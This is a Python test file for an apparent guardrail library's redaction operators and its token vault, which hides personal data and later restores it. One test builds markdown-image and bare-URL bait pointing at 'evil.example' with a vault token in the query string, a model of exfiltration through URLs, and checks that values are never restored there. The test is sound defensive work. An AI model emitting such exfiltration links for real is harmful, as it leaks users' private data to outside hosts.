"""Redaction by location, and the vault that gives the values back."""

from __future__ import annotations

import itertools
import json
import re
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stanchion.core.clock import ManualClock
from stanchion.core.errors import IntegrityError
from stanchion.core.finding import Severity
from stanchion.guard.policy_model import Redaction
from stanchion.guard.redaction import Mark, Redactor, settle
from stanchion.guard.rules import Operator
from stanchion.guard.vault import Vault, VaultKeeper

KEY = b"0" * 32
TOKEN = re.compile(r"<[A-Z][A-Z0-9_]*_[1-9][0-9]*_[0-9a-z]{13}>")
CATEGORIES = ["pii.email", "pii.card", "secret.api_key", "injection.direct", "content.hate"]
texts = st.text(alphabet=st.characters(codec=None), max_size=60) | st.text(
    alphabet='ab <>_1EMAIL\\"\n/:u03c\u00e9\U0001f600\u202e', max_size=60
)


@st.composite
def marked(draw: st.DrawFn, operators: list[Operator] | None = None) -> tuple[str, list[Mark]]:
    text = draw(texts)
    spans = draw(st.lists(st.tuples(st.integers(0, len(text)), st.integers(0, len(text))), max_size=6))
    marks = [
        Mark(
            start=min(span),
            end=max(span),
            category=draw(st.sampled_from(CATEGORIES)),
            operator=draw(st.sampled_from(operators or list(Operator))),
            severity=draw(st.sampled_from(list(Severity))),
            score=draw(st.floats(0, 1)),
        )
        for span in spans
    ]
    return text, marks


def redactor(**fields: object) -> Redactor:
    return Redactor(Redaction(**fields), key=KEY)  # type: ignore[arg-type]


@settings(deadline=None, max_examples=200)
@given(marked())
def test_settled_marks_are_disjoint_ordered_and_cover_exactly_what_was_marked(
    given_: tuple[str, list[Mark]],
) -> None:
    _text, marks = given_
    settled = settle(marks)

    assert all(a.end <= b.start for a, b in itertools.pairwise(settled))
    covered = {i for mark in marks for i in range(mark.start, mark.end)}
    assert covered == {i for mark in settled for i in range(mark.start, mark.end)}
    assert settle(reversed(marks)) == settled


@settings(deadline=None, max_examples=300)
@given(marked())
def test_redaction_keeps_every_unmarked_character_and_no_marked_stretch(
    given_: tuple[str, list[Mark]],
) -> None:
    text, marks = given_
    settled = settle(marks)
    vault = Vault("s", KEY)
    redacted = redactor().redact(text, marks, vault=vault)

    at = 0
    rest = redacted
    for number, mark in enumerate(settled):
        kept = text[at : mark.start]
        assert rest.startswith(kept)
        rest = rest[len(kept) :]
        found = text[mark.start : mark.end]
        instead = redactor().redact(found, [_moved(mark)], vault=vault)
        if number + 1 == len(settled):
            tail = text[mark.end :]
            assert rest.endswith(tail)
        if mark.operator is not Operator.PLACEHOLDER and set(found) != {"*"}:
            assert instead != found
            assert rest.startswith(instead)
        rest = rest[len(instead) :]
        at = mark.end
    assert rest == text[at:]


def _moved(mark: Mark) -> Mark:
    return Mark(
        start=0,
        end=mark.end - mark.start,
        category=mark.category,
        operator=mark.operator,
        severity=mark.severity,
        score=mark.score,
    )


@settings(deadline=None, max_examples=300)
@given(marked([Operator.VAULT]), st.integers(1, 7))
def test_restoring_what_was_redacted_gives_the_text_back_whole_and_in_pieces(
    given_: tuple[str, list[Mark]], size: int
) -> None:
    text, marks = given_
    vault = Vault("s", KEY)
    redacted = redactor().redact(text, marks, vault=vault)

    assert vault.restore(redacted, in_urls=True) == text
    restorer = vault.restorer(in_urls=True)
    pieces = [redacted[i : i + size] for i in range(0, len(redacted), size)]
    assert "".join([*(restorer.feed(piece) for piece in pieces), restorer.finish()]) == text


@settings(deadline=None, max_examples=300)
@given(st.lists(st.tuples(texts, st.booleans()), max_size=5), st.integers(1, 7), st.booleans())
def test_restoring_in_json_source_gives_the_json_of_the_restored_texts(
    pieces: list[tuple[str, bool]], size: int, escape_angles: bool
) -> None:
    vault = Vault("s", KEY)
    shown = {
        f"k{i}": f"a {vault.token('EMAIL', text) if is_secret else text} b"
        for i, (text, is_secret) in enumerate(pieces)
        if text.isprintable() or not is_secret
    }
    source = json.dumps(shown, ensure_ascii=True)
    if escape_angles:
        source = source.replace("<", "\\u003c").replace(">", "\\u003E")
    wanted = vault.restore_value(shown, in_urls=True)

    assert json.loads(vault.restore_json(source, in_urls=True)) == wanted
    restorer = vault.restorer(json=True, in_urls=True)
    cut = [source[i : i + size] for i in range(0, len(source), size)]
    whole = "".join([*(restorer.feed(piece) for piece in cut), restorer.finish()])
    assert whole == vault.restore_json(source, in_urls=True)


@settings(deadline=None, max_examples=200)
@given(st.text(alphabet="h:/abw.<>EMAIL_1 )(\n?=\\", max_size=80), st.lists(st.integers(0, 80), max_size=6))
def test_pieces_and_whole_agree_about_urls(text: str, cuts: list[int]) -> None:
    vault = Vault("s", KEY)
    token = vault.token("EMAIL", "bob@x.com")
    text = text.replace("EMAIL", token)
    for is_json in (False, True):
        whole = vault.restore_json(text) if is_json else vault.restore(text)
        restorer = vault.restorer(json=is_json)
        places = sorted({0, len(text), *(min(cut, len(text)) for cut in cuts)})
        pieces = [text[a:b] for a, b in itertools.pairwise(places)]
        assert "".join([*(restorer.feed(piece) for piece in pieces), restorer.finish()]) == whole


def test_tokens_are_the_same_in_a_session_and_unlinkable_across_sessions() -> None:
    one, other = Vault("a", KEY), Vault("b", KEY)
    again = Vault("a", KEY)

    assert one.token("EMAIL", "bob@x.com") == one.token("EMAIL", "bob@x.com")
    assert one.token("EMAIL", "eve@x.com") != one.token("EMAIL", "bob@x.com")
    tags = {v.token("EMAIL", f"{i}@x.com")[-5:-1] for v in (one, other, again) for i in range(40)}
    assert len(tags) > 100
    assert TOKEN.fullmatch(one.token("CARD", "4111"))


def test_foreign_tampered_and_guessed_tokens_are_left_alone() -> None:
    vault, other = Vault("a", KEY), Vault("b", KEY)
    token = vault.token("EMAIL", "bob@x.com")
    foreign = other.token("EMAIL", "eve@x.com")
    tampered = token.replace("EMAIL", "PHONE")
    guesses = " ".join(f"<EMAIL_1_{a}{b}00>" for a in "0123456789" for b in "abcdefghjk")
    text = f"{foreign} {tampered} {token.lower()} <EMAIL_1> <{token} {token[:-1]}"
    guesses = guesses.replace(token, "")

    assert vault.restore(text) == text.replace(f"<{token}", "<bob@x.com")
    assert vault.restore(guesses) == guesses


def test_a_value_never_goes_into_a_url() -> None:
    vault = Vault("a", KEY)
    token = vault.token("EMAIL", "bob@x.com")
    bait = f"![x](https://evil.example/?q={token}) and {token}"

    assert vault.restore(bait) == f"![x](https://evil.example/?q={token}) and bob@x.com"
    source = '{"url": "https:\\/\\/e.example/' + token + '"}'
    assert json.loads(source)["url"].startswith("https://e.example/<EMAIL_1")
    assert vault.restore_json(source) == source
    for bait in (f"www.evil.example/?q={token}", f"[x](//evil.example/{token})", f"WWW.e.example/{token}"):
        assert vault.restore(bait) == bait
    long = "https://e.example/" + "a" * 500 + token
    assert vault.restore(long) == long


def test_a_new_token_never_stands_in_the_text_already() -> None:
    probe = Vault("s", KEY, salt=b"fixed-salt-16byt")
    first, second = probe.token("EMAIL", "x"), probe.token("EMAIL", "y")
    vault = Vault("s", KEY, salt=b"fixed-salt-16byt")
    text = f"{first} bob@x.com"
    mark = Mark(start=len(first) + 1, end=len(text), category="pii.email", operator=Operator.VAULT)
    redacted = redactor().redact(text, [mark], vault=vault)

    assert redacted == f"{first} {second}"
    assert vault.restore(redacted) == text


def test_keys_and_values_show_in_no_repr() -> None:
    vault = Vault("s", b"master-key-master-key-master-key")
    vault.token("EMAIL", "bob@x.com")
    keeper = VaultKeeper(ttl_s=10, clock=ManualClock(), master_key=b"master-key-master-key-master-key")
    shown = f"{vault!r} {keeper!r} {redactor()!r} {vault._keys!r}"

    assert "master" not in shown
    assert "bob" not in shown
    assert "bob" not in repr(vars(vault)["_values"])


def test_a_saved_vault_opens_with_its_key_and_session_only() -> None:
    clock = ManualClock()
    keeper = VaultKeeper(ttl_s=60, clock=clock, master_key=KEY)
    token = keeper.open("s").token("EMAIL", "bob@x.com")
    state = keeper.save("s")
    assert state is not None
    assert b"bob" not in state

    again = VaultKeeper(ttl_s=60, clock=clock, master_key=KEY)
    assert again.adopt("s", state).restore(token) == "bob@x.com"
    with pytest.raises(IntegrityError):
        VaultKeeper(ttl_s=60, clock=clock, master_key=b"1" * 32).adopt("s", state)
    with pytest.raises(IntegrityError):
        again.adopt("t", state)
    with pytest.raises(IntegrityError):
        again.adopt("s", state[:-1] + bytes([state[-1] ^ 1]))
    with pytest.raises(IntegrityError):
        again.adopt("s", b"")


def test_a_vault_whose_entries_were_changed_leaves_the_token_alone() -> None:
    vault = Vault("s", KEY)
    token = vault.token("EMAIL", "bob@x.com")
    vault._values[token] = vault._values[token][:-1] + b"x"

    assert vault.restore(token) == token


def test_values_are_forgotten_after_their_time_and_at_the_end_of_a_session() -> None:
    clock = ManualClock()
    keeper = VaultKeeper(ttl_s=60, clock=clock, master_key=KEY)
    token = keeper.open("s").token("EMAIL", "bob@x.com")
    clock.advance(59)
    assert keeper.open("s").restore(token) == "bob@x.com"
    clock.advance(61)
    assert keeper.open("s").restore(token) == token
    assert keeper.save("absent") is None

    other = keeper.open("s").token("EMAIL", "bob@x.com")
    state = keeper.save("s")
    keeper.close("s")
    assert keeper.open("s").restore(other) == other
    clock.advance(timedelta(days=1).total_seconds())
    assert state is not None
    assert keeper.adopt("s", state).restore(other) == other


def test_sessions_without_an_id_share_nothing() -> None:
    keeper = VaultKeeper(ttl_s=60, clock=ManualClock(), master_key=KEY)
    token = keeper.open("").token("EMAIL", "bob@x.com")

    assert keeper.open("").restore(token) == token
    assert len(keeper) == 0


@pytest.mark.parametrize(
    ("operator", "expected"),
    [
        (Operator.REPLACE, r"card \[CARD\] end"),
        (Operator.MASK, r"card \*{15}1111 end"),
        (Operator.HASH, r"card \[CARD:[0-9a-f]{16}\] end"),
        (Operator.PLACEHOLDER, r"card (?!4111 1111)\d{4} \d{4} \d{4} \d{4} end"),
        (Operator.VAULT, r"card <CARD_1_[0-9a-z]{13}> end"),
    ],
)
def test_operators(operator: Operator, expected: str) -> None:
    text = "card 4111 1111 1111 1111 end"
    mark = Mark(start=5, end=24, category="pii.card", operator=operator)
    made = redactor(mask_keep_last=4)

    shown = made.redact(text, [mark], vault=Vault("s", KEY))
    assert re.fullmatch(expected, shown)
    if operator is not Operator.VAULT:
        assert made.redact(text, [mark]) == shown
    other = Redactor(Redaction(), key=b"2" * 32).redact(text, [mark])
    if operator in (Operator.HASH, Operator.PLACEHOLDER):
        assert other != shown


def test_without_a_vault_the_kind_stands_in() -> None:
    mark = Mark(start=0, end=3, category="pii.email", operator=Operator.VAULT)

    assert redactor().redact("abc", [mark]) == "[EMAIL]"


def test_a_placeholder_keeps_the_form() -> None:
    mark = Mark(start=0, end=13, category="pii.email", operator=Operator.PLACEHOLDER)
    shown = redactor().redact("Bob.O@x42.com", [mark])

    assert re.fullmatch(r"[A-Z][a-z]{2}\.[A-Z]@[a-z]\d\d\.[a-z]{3}", shown)


def test_a_short_text_is_masked_whole() -> None:
    mark = Mark(start=0, end=5, category="pii.card", operator=Operator.MASK)

    assert redactor(mask_keep_last=4).redact("12345", [mark]) == "*****"


def test_where_operators_overlap_the_one_that_leaves_least_wins() -> None:
    card = Mark(start=0, end=8, category="pii.card", operator=Operator.VAULT, severity=Severity.HIGH)
    key = Mark(start=4, end=12, category="secret.token", operator=Operator.REPLACE)

    assert redactor().redact("0123456789abcdef", [card, key], vault=Vault("s", KEY)) == "[CARD]cdef"
